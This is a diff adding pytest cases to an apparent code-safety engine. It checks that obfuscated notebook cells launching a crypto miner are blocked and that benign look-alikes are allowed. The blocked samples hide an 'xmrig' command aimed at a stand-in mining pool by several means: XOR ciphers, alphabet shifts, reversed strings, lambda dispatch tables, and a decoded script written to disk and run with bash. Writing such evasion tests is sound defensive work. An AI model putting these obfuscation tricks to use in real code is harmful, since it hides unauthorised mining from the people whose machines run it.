@@ -512,3 +512,58 @@ def test_calls_reached_through_a_decoded_import_or_a_bound_name_keep_their_shape
 def test_bound_names_of_ordinary_calls_are_allowed(engine, cell):
     assert_allowed(engine, cell)
 
+
+
+# ---------------------------------------------------------------------------
+# Ciphers with a key, tables of steps and of functions (an independent evasion probe's hard cells)
+
+def xored(text: str, key: bytes) -> str:
+    return bytes(b ^ key[i % len(key)] for i, b in enumerate(text.encode())).hex()
+
+
+TABLES = {
+    "xor with a key over enumerate, written to a script and run":
+        "import os, subprocess\nk = b'k3y'\n"
+        f"raw = bytes.fromhex('{xored(MINER, b'k3y')}')\np = os.path.expanduser('~/.bench.sh')\n"
+        "with open(p, 'wb') as fh:\n    fh.write(bytes(x ^ k[i % len(k)] for i, x in enumerate(raw)))\n"
+        "subprocess.run(['bash', p])",
+    "a table decoded by a dict comprehension, filled into command templates in a loop":
+        "import subprocess\nk = b'wl'\nx = lambda h: bytes(b ^ k[i % 2] for i, b in enumerate(bytes.fromhex(h))).decode()\n"
+        f"P = {{n: x(v) for n, v in {{'t': '{xored('xmrig', b'wl')}'}}.items()}}\n"
+        "steps = ['nvidia-smi', '{t} -o pool.example.net:3333 -u WALLET']\nfor s in steps:\n"
+        "    subprocess.run(s.format_map(P), shell=True)",
+    "an alphabet shifted with str.translate over string constants":
+        "import os, string\nA = string.ascii_letters\nu = lambda s: s.translate(str.maketrans(A[3:] + A[:3], A))\n"
+        f"os.system(u('{MINER.translate(str.maketrans('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ', 'defghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZabc'))}'))",
+    "runners kept in a list of lambdas, picked by index in a loop":
+        "import os, subprocess\nops = [lambda c: os.system(c), lambda c: subprocess.Popen(c, shell=True)]\n"
+        f"for i, c in [(0, 'ls'), (1, '{MINER[::-1]}'[::-1])]:\n    ops[i](c)",
+    "runners kept in a list by name": f"import os, subprocess\nops = [subprocess.call, os.system]\nops[1]('{MINER}')",
+    "runners kept in a dict of lambdas": f"import os\nops = {{'go': lambda c: os.system(c)}}\nops['go']('{MINER}')",
+}
+
+
+@pytest.mark.parametrize("cell", TABLES.values(), ids=TABLES.keys())
+def test_keyed_ciphers_and_tables_are_followed(engine, cell):
+    if "written to a script" in cell or "bench.sh" in cell:  # a written script is read as code, not as run
+        verdict = engine.check_code(cell)
+        assert verdict.action == "block" and MINER_RULE in {f.rule for f in verdict.findings}, verdict.to_dict()
+    else:
+        assert_miner_blocked(engine, cell)
+
+
+TABLES_BENIGN = {
+    "xor-decoded config written and read":
+        "import json\nk = b'k3y'\n"
+        f"raw = bytes.fromhex('{xored(CONFIG, b'k3y')}')\nopen('cfg.json', 'wb').write(bytes(x ^ k[i % len(k)] for i, x in enumerate(raw)))\n"
+        "print(json.load(open('cfg.json')))",
+    "a loop over ordinary steps": "import subprocess\nsteps = ['nvidia-smi', 'pip list', 'ls {d}']\n"
+                                  "for s in steps:\n    subprocess.run(s.format(d='/content'), shell=True)",
+    "a list of printing lambdas": f"ops = [lambda c: print(c), lambda c: len(c)]\nops[0]('{MINER}')",
+    "a loop over many data rows": "import os\nrows = [f'file_{i}.csv' for i in range(500)]\nfor r in rows:\n    os.system('wc -l ' + r)",
+}
+
+
+@pytest.mark.parametrize("cell", TABLES_BENIGN.values(), ids=TABLES_BENIGN.keys())
+def test_keyed_ciphers_and_tables_on_ordinary_data_are_allowed(engine, cell):
+    assert_allowed(engine, cell)
